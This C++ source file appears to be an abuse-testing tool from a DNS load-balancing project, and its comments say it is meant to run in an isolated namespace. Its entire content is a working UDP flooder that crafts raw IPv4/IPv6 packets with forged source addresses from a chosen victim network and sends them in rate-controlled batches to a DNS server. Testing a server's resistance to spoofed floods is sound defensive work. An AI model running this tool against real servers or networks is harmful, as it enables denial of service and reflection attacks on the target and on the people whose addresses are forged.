// An attacker who forges source addresses: sends one message many times over UDP, each time in the
// name of another address of a network, at a bounded rate. Needs CAP_NET_RAW, and a namespace that
// leads nowhere: see abuse.sh.

#include <netinet/in.h>
#include <sys/socket.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <random>
#include <thread>

#include "base/unique_fd.h"
#include "dns/sockaddr.h"
#include "dns/wire.h"
#include "tests/abuse/messages.h"

namespace gslb::abuse {
namespace {

using Clock = std::chrono::steady_clock;
using dns::store_u16;
using support::Bytes;

constexpr std::size_t kIpv4Header = 20;
constexpr std::size_t kIpv6Header = 40;
constexpr std::size_t kUdpHeader = 8;
constexpr std::size_t kBatch = 32;
/// Honest clients use the kernel's range, from 32768 on, so that packets can be told apart.
constexpr std::uint16_t kFirstPort = 20'000;
constexpr std::uint16_t kPorts = 10'000;

struct Options {
  std::string message = "a";
  std::string from;      ///< An address of the network of the victims.
  unsigned prefix = 24;  ///< Its length.
  unsigned each = 24;    ///< One packet from each network of this length in turn.
  std::string to;
  std::uint16_t port = 53;
  bool source_port_0 = false;
  std::uint64_t rate = 1000;
  std::uint64_t count = 1000;
};

/// The addresses that are forged, one after the other.
class Sources {
 public:
  Sources(const base::IpAddress& network, unsigned prefix, unsigned each)
      : network_(network), prefix_(prefix), each_(std::max(each, prefix)) {}

  /// The network's bits, then a number that counts up, then chance.
  base::IpAddress next() {
    std::array<std::uint8_t, 16> bytes{};
    const std::size_t size = network_.bytes().size();
    std::copy_n(network_.bytes().data(), size, bytes.data());
    const std::uint64_t number = count_++;
    for (unsigned bit = prefix_; bit < size * 8; ++bit) {
      const bool from_number = bit < each_;
      const unsigned place = each_ - 1 - bit;  // Of the bit in the number.
      const bool on = from_number ? place < 64 && (number >> place & 1) != 0 : (random_() & 1) != 0;
      const auto mask = static_cast<std::uint8_t>(0x80 >> (bit % 8));
      bytes[bit / 8] =
          static_cast<std::uint8_t>(on ? bytes[bit / 8] | mask : bytes[bit / 8] & ~mask);
    }
    if (network_.is_v6()) return base::IpAddress::v6(bytes);
    return base::IpAddress::v4({bytes[0], bytes[1], bytes[2], bytes[3]});
  }

  std::uint16_t port() { return static_cast<std::uint16_t>(kFirstPort + random_() % kPorts); }

 private:
  base::IpAddress network_;
  unsigned prefix_;
  unsigned each_;
  std::uint64_t count_ = 0;
  std::minstd_rand random_{1};
};

/// The Internet checksum (RFC 1071) of several parts, all but the last of even length.
class Checksum {
 public:
  void add(std::span<const std::uint8_t> part) {
    for (std::size_t i = 0; i + 1 < part.size(); i += 2) sum_ += dns::load_u16(&part[i]);
    if (part.size() % 2 == 1) sum_ += std::uint32_t{part.back()} << 8;
  }
  void add(std::uint32_t word) { sum_ += word; }
  std::uint16_t value() const {
    std::uint32_t sum = sum_;
    while (sum >> 16 != 0) sum = (sum & 0xFFFF) + (sum >> 16);
    return static_cast<std::uint16_t>(~sum);
  }

 private:
  std::uint32_t sum_ = 0;
};

/// An IP packet with a UDP datagram; what the kernel fills in (RFC 791 checksum) is left 0.
Bytes make_packet(const base::SocketAddress& from, const base::SocketAddress& to,
                  const Bytes& message) {
  const std::size_t ip_size = from.ip.is_v6() ? kIpv6Header : kIpv4Header;
  const auto udp_size = static_cast<std::uint16_t>(kUdpHeader + message.size());
  Bytes packet(ip_size + udp_size);
  std::uint8_t* udp = &packet[ip_size];
  if (from.ip.is_v6()) {
    packet[0] = 0x60;
    store_u16(&packet[4], udp_size);
    packet[6] = IPPROTO_UDP;
    packet[7] = 64;
    std::copy_n(from.ip.bytes().data(), 16, &packet[8]);
    std::copy_n(to.ip.bytes().data(), 16, &packet[24]);
  } else {
    packet[0] = 0x45;
    store_u16(&packet[2], static_cast<std::uint16_t>(packet.size()));
    packet[8] = 64;
    packet[9] = IPPROTO_UDP;
    std::copy_n(from.ip.bytes().data(), 4, &packet[12]);
    std::copy_n(to.ip.bytes().data(), 4, &packet[16]);
  }
  store_u16(udp, from.port);
  store_u16(udp + 2, to.port);
  store_u16(udp + 4, udp_size);
  std::copy(message.begin(), message.end(), udp + kUdpHeader);

  Checksum checksum;
  checksum.add(from.ip.bytes());
  checksum.add(to.ip.bytes());
  checksum.add(std::uint32_t{IPPROTO_UDP});
  checksum.add(std::uint32_t{udp_size});
  checksum.add(std::span(packet).subspan(ip_size));
  const std::uint16_t value = checksum.value();
  store_u16(udp + 6, value == 0 ? 0xFFFF : value);  // RFC 768: 0 means none.
  return packet;
}

/// A batch of packets that go out with one system call.
class Sender {
 public:
  explicit Sender(const base::SocketAddress& to) : to_(to) {
    const int family = to.ip.is_v6() ? AF_INET6 : AF_INET;
    // IPPROTO_RAW: the packet brings its own IP header, raw(7).
    fd_.reset(::socket(family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW));
    sockaddr_storage_size_ = dns::fill_sockaddr({to.ip, 0}, storage_);
  }

  explicit operator bool() const { return static_cast<bool>(fd_); }

  /// False where the kernel refuses, with errno.
  bool send(std::vector<Bytes>& packets) {
    std::array<iovec, kBatch> parts{};
    std::array<mmsghdr, kBatch> messages{};
    for (std::size_t i = 0; i < packets.size(); ++i) {
      parts[i] = {packets[i].data(), packets[i].size()};
      messages[i].msg_hdr.msg_iov = &parts[i];
      messages[i].msg_hdr.msg_iovlen = 1;
      messages[i].msg_hdr.msg_name = &storage_;
      messages[i].msg_hdr.msg_namelen = sockaddr_storage_size_;
    }
    for (std::size_t sent = 0; sent < packets.size();) {
      const int count =
          ::sendmmsg(fd_.get(), &messages[sent], static_cast<unsigned>(packets.size() - sent), 0);
      if (count < 0 && errno == ENOBUFS) continue;
      if (count < 0) return false;
      sent += static_cast<std::size_t>(count);
    }
    return true;
  }

 private:
  base::SocketAddress to_;
  base::UniqueFd fd_;
  sockaddr_storage storage_{};
  socklen_t sockaddr_storage_size_ = 0;
};

int flood(const Options& options, const base::IpAddress& network, const base::IpAddress& server,
          const Bytes& message) {
  const base::SocketAddress to{server, options.port};
  Sender sender(to);
  if (!sender) {
    std::fprintf(stderr, "flood: cannot open a raw socket: %s; run as root\n",
                 std::strerror(errno));
    return 1;
  }
  Sources sources(network, options.prefix, options.each);
  const Clock::time_point start = Clock::now();
  std::uint64_t octets = 0;
  for (std::uint64_t sent = 0; sent < options.count;) {
    // The packets that are due by now, so that the rate holds whatever a batch takes.
    const std::chrono::nanoseconds passed = Clock::now() - start;
    const auto due = static_cast<std::uint64_t>(std::chrono::duration<double>(passed).count() *
                                                static_cast<double>(options.rate));
    std::vector<Bytes> packets;
    while (sent + packets.size() < std::min(due + 1, options.count) && packets.size() < kBatch) {
      const std::uint16_t port = options.source_port_0 ? std::uint16_t{0} : sources.port();
      packets.push_back(make_packet({sources.next(), port}, to, message));
      octets += packets.back().size();
    }
    if (!sender.send(packets)) {
      std::fprintf(stderr, "flood: cannot send: %s\n", std::strerror(errno));
      return 1;
    }
    sent += packets.size();
    if (packets.empty()) std::this_thread::sleep_for(std::chrono::microseconds(200));
  }
  const std::chrono::duration<double> took = Clock::now() - start;
  std::printf("packets=%llu octets=%llu message=%zu seconds=%.3f\n",
              static_cast<unsigned long long>(options.count),
              static_cast<unsigned long long>(octets), message.size(), took.count());
  return 0;
}

}  // namespace
}  // namespace gslb::abuse

int main(int argc, char** argv) {
  using namespace gslb;
  abuse::Options options;
  CLI::App app("Sends DNS messages over UDP with forged source addresses.", "flood");
  app.add_option("--message", options.message, "Which message; a wrong name lists them");
  app.add_option("--from", options.from, "The victims' network: an address")->required();
  app.add_option("--prefix", options.prefix, "Its length in bits");
  app.add_option("--each", options.each, "Take one source from each network of this length");
  app.add_option("--to", options.to, "The server")->required();
  app.add_option("--port", options.port, "Its port");
  app.add_flag("--source-port-0", options.source_port_0, "Forge port 0 as well");
  app.add_option("--rate", options.rate, "Packets per second")
      ->check(CLI::Range(std::uint64_t{1}, std::uint64_t{1'000'000}));
  app.add_option("--count", options.count, "Packets in all");
  CLI11_PARSE(app, argc, argv);

  const auto message = abuse::make_message(options.message);
  const auto network = base::parse_ip_address(options.from);
  const auto server = base::parse_ip_address(options.to);
  if (!message) {
    std::fprintf(stderr, "flood: --message is none of:");
    for (const std::string_view name : abuse::message_names()) {
      std::fprintf(stderr, " %.*s", static_cast<int>(name.size()), name.data());
    }
    std::fprintf(stderr, "\n");
    return 2;
  }
  if (!network || !server || network->is_v6() != server->is_v6()) {
    std::fprintf(stderr, "flood: --from and --to must be addresses of one family\n");
    return 2;
  }
  return abuse::flood(options, *network, *server, *message);
}
